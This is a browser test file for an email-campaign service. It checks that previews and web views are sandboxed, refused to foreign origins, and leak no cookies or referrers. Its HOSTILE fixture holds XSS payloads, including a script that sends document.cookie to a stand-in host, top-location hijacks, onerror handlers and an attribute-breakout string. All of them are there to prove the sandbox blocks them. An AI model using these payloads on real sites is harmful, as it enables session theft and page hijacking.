/**
 * Previews and web views in a real browser: shown in a frame of our own pages, refused to strangers, and their html, which a
 * customer wrote, can do nothing. Needs Chromium; where there is none this file is left out.
 */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { afterFile } from '../support/after-file.ts';
import { CHROMIUM, launchChromium } from '../support/chromium.ts';
import { field, mailWorld } from '../support/mail-world.ts';
import { untilCounted } from '../support/record-tracking-events.ts';
import { startRestApp } from '../support/rest-app.ts';

/** No such host: the browser is answered by the test. */
const TRIED = 'http://tried.invalid';
const PHONE = { width: 360, height: 640 };

/** Each part tries to run, to read, to send, or to leave the frame. */
const HOSTILE = `<!doctype html><html lang="de"><head><title>Trick</title>
<meta http-equiv="refresh" content="0;url=${TRIED}/refresh">
<meta content="unsafe-url" name="referrer">
<base href="${TRIED}/base/" target="_self"></head><body style="color: rgb(1, 2, 3)">
<script>fetch('${TRIED}/fetch?' + document.cookie); top.location = '${TRIED}/script'; document.title = 'broken'</script>
<img src="data:image/png;base64,x" onerror="top.location='${TRIED}/onerror'">
<iframe srcdoc="<script>top.location='${TRIED}/srcdoc'</script>"></iframe>
<form method="post" action="${TRIED}/form"><button id="send">Send</button></form>
<xmp><p title="</xmp><img src=x onerror=top.location='${TRIED}/xmp'>">
<a id="script" href="javascript:top.location='${TRIED}/href'">script</a>
"></iframe></main><script>top.location='${TRIED}/attribute'</script>
<h1 id="hello">Hallo {FIRST_NAME}</h1>
<img referrerpolicy="unsafe-url" src="http://pictures.invalid/1" alt=""><img src="http://pictures.invalid/2" alt="">
<iframe srcdoc="<img &#114;eferrerpolicy=unsafe-url src=http://pictures.invalid/3>"></iframe>
<table width="900"><tr><td>wide</td></tr></table>
<a id="place" href="#hello">up</a> <a id="shop" href="http://shop.invalid/spring">shop</a>
<a id="top" href="http://shop.invalid/top" target="_top">top</a>
<a id="leave" href="{UNSUBSCRIBE_URL}">unsubscribe</a></body></html>`;

const framing = (frameUrl: string) => `<title>Ours</title><iframe src="${frameUrl}"></iframe>`;

/** Another origin on this machine, whose pages frame the address behind their question mark. */
async function startSite(): Promise<string> {
  const site = createServer((req, res) => {
    res.setHeader('Content-Type', 'text/html');
    res.end(framing(decodeURIComponent(req.url?.split('?', 2)[1] ?? '')));
  }).listen(0, '127.0.0.1');
  await once(site, 'listening');
  afterFile(() => new Promise<void>((resolve) => site.close(() => resolve())));
  const address = site.address();
  if (address === null || typeof address === 'string') throw new Error('It does not listen on a port.');
  return `http://127.0.0.1:${address.port}`;
}

describe.skipIf(CHROMIUM === undefined)('in a frame', async () => {
  const [frontEnd, stranger] = [await startSite(), await startSite()];
  const app = await startRestApp({
    ...{ ROLES: 'web,worker,cron', INBOX: 'on', INBOX_SMTP_PORT: '0' },
    CORS_ORIGINS: frontEnd,
  });
  const owner = await app.newTenant();
  const { call, here, newList, newCampaign, add, done, mailTo } = mailWorld(app, owner);
  let browser: Browser;
  let context: BrowserContext;
  let annUid: string;
  let campaign: string;
  let viewUrl: string;
  /** Requests that the html caused, and what a test answered in place of other hosts. */
  const asked: string[] = [];
  /** Addresses that other hosts were told. */
  const told: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    const list = await newList();
    annUid = await add(list, 'ann@frame.example', { FIRST_NAME: 'Ann' });
    const html = `${HOSTILE}<a id="view" href="{WEB_VIEW_URL}">view</a>`;
    campaign = await newCampaign(list, { subject: 'Spring & <b>more</b>', html, track_click: '1' });
    const answer = await call('POST', `/campaigns/${campaign}/run`);
    expect(answer.status, answer.text).toBe(200);
    await done(campaign);
    const mail = await mailTo('ann@frame.example');
    viewUrl = here(/id="view" href="([^"]+)"/.exec(mail.html ?? '')?.[1]);
  });
  afterAll(() => browser?.close());

  /** A page of this origin whose one element is the frame. */
  async function framedBy(origin: string, frameUrl: string): Promise<Page> {
    const page = await openPage();
    // So far no page of the product has such a frame.
    await page.route(`${app.baseUrl}/editor?*`, (route) =>
      route.fulfill({ contentType: 'text/html', body: framing(frameUrl) }),
    );
    await page.goto(`${origin}/editor?${encodeURIComponent(frameUrl)}`);
    return page;
  }

  async function openPage(options: { javaScriptEnabled?: boolean; viewport?: typeof PHONE } = {}): Promise<Page> {
    await context?.close();
    context = await browser.newContext(options);
    // Less than a test may take, so that the step is named that does not come.
    context.setDefaultTimeout(120_000);
    await context.addCookies([{ name: 'secret', value: 'cookie', url: app.baseUrl }]);
    await context.route(/\.invalid\//, (route) => {
      asked.push(route.request().url());
      const { referer } = route.request().headers();
      if (referer !== undefined) told.push(referer);
      return route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title>' });
    });
    asked.length = 0;
    told.length = 0;
    return context.newPage();
  }

  const previewUrl = async () => {
    const answer = await call('GET', `/campaigns/${campaign}/preview?subscriber=${annUid}`);
    return here(String(field(answer, 'preview', 'url')));
  };
  const tried = () => asked.filter((url) => url.startsWith(TRIED));

  it('shows a preview to a page of ours and to a front end of CORS_ORIGINS, with its styles', async () => {
    for (const origin of [app.baseUrl, frontEnd]) {
      const page = await framedBy(origin, await previewUrl());
      const mail = page.frameLocator('iframe');
      expect(await mail.locator('#hello').textContent()).toBe('Hallo Ann');
      expect(await mail.locator('body').evaluate((body) => getComputedStyle(body).color)).toBe('rgb(1, 2, 3)');
    }
  });

  it('shows neither a preview nor a web view to a stranger', async () => {
    for (const url of [await previewUrl(), viewUrl]) {
      const page = await framedBy(stranger, url);
      await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
      expect(await page.frames()[1]?.content()).not.toContain('Hallo');
    }
  });

  it('lets the html of a preview neither run, read, send, nor leave the frame', async () => {
    const page = await framedBy(app.baseUrl, await previewUrl());
    const mail = page.frameLocator('iframe');
    await mail.locator('#script').click();
    await mail.locator('#send').click();
    await mail.locator('#place').click();
    const [opened] = await Promise.all([context.waitForEvent('page'), mail.locator('#shop').click()]);
    await opened.waitForURL('http://shop.invalid/spring');
    expect([new URL(page.url()).pathname, await page.title()]).toEqual(['/editor', 'Ours']);
    expect(await mail.locator('#hello').textContent()).toBe('Hallo Ann');
    expect(tried()).toEqual([]);
    const inside = page.frames()[1];
    expect(await inside?.evaluate(() => window.origin)).toBe('null');
    await expect(inside?.evaluate(() => document.cookie)).rejects.toThrow(/sandboxed/);
  });

  it('shows a web view as a page with title, language and landmark, which fits a phone, without script', async () => {
    const page = await openPage({ javaScriptEnabled: false, viewport: PHONE });
    await page.goto(viewUrl);
    expect(await page.title()).toBe('Spring & <b>more</b>');
    expect(await page.locator('html').getAttribute('lang')).toBe('de');
    expect(await page.getByRole('main').count()).toBe(1);
    expect(await page.getByRole('heading', { level: 1 }).first().textContent()).toBe('Spring & <b>more</b>');
    const frame = page.getByRole('main').locator('iframe');
    expect(await frame.boundingBox()).toEqual({ x: 0, y: 0, ...PHONE });
    const overflow = () =>
      page.evaluate(() => {
        const { scrollWidth, scrollHeight } = document.documentElement;
        return [scrollWidth, scrollHeight];
      });
    expect(await overflow()).toEqual([PHONE.width, PHONE.height]);
    const mail = page.frameLocator('main iframe');
    expect(await mail.locator('#hello').textContent()).toBe('Hallo Ann');
    expect(await mail.locator('body').evaluate((body) => getComputedStyle(body).color)).toBe('rgb(1, 2, 3)');
  });

  it('lets the html of a web view do nothing, and its links lead out of the frame and count', async () => {
    const page = await openPage();
    await page.goto(viewUrl);
    const mail = page.frameLocator('main > iframe');
    await mail.locator('#script').click();
    await mail.locator('#send').click();
    await mail.locator('#place').click();
    expect(page.url()).toBe(viewUrl);
    expect(await page.title()).toBe('Spring & <b>more</b>');
    expect(tried()).toEqual([]);
    const inside = page.frames()[1];
    expect(await inside?.evaluate(() => window.origin)).toBe('null');
    const clicks = async () => {
      await untilCounted(app.ctx);
      return field(await call('GET', `/campaigns/${campaign}`), 'statistics', 'click_count');
    };
    const before = Number(await clicks());
    await page.frameLocator('main > iframe').locator('#shop').click();
    await page.waitForURL('http://shop.invalid/spring');
    // The reader is led on after two seconds, also when the click is not written down by then.
    await expect.poll(clicks).toBe(before + 1);
  });

  it('tells no host of a picture the address of the preview or the web view', async () => {
    for (const url of [await previewUrl(), viewUrl]) {
      const page = await openPage();
      await page.goto(url, { waitUntil: 'networkidle' });
      // A busy browser may ask for nothing for half a second before it has read the html.
      const pictures = () => asked.filter((one) => one.startsWith('http://pictures.invalid/')).length;
      await expect.poll(pictures).toBeGreaterThanOrEqual(2);
      expect(told).toEqual([]);
    }
  });

  it('lets no link of a framed web view replace the page around it', async () => {
    const page = await framedBy(frontEnd, viewUrl);
    const mail = page.frameLocator('iframe').frameLocator('main > iframe');
    for (const link of ['#shop', '#top']) {
      const [opened] = await Promise.all([context.waitForEvent('page'), mail.locator(link).click()]);
      await opened.waitForURL(/shop.invalid/);
      expect(new URL(page.url()).origin).toBe(frontEnd);
    }
  });

  it('unsubscribes from a web view without script', async () => {
    const page = await openPage({ javaScriptEnabled: false });
    await page.goto(viewUrl);
    await page.frameLocator('main > iframe').locator('#leave').click();
    await page.getByRole('button', { name: 'Unsubscribe' }).click();
    const status = async () => field(await call('GET', `/subscribers/${annUid}`), 'subscriber', 'status');
    await expect.poll(status).toBe('unsubscribed');
  });
});
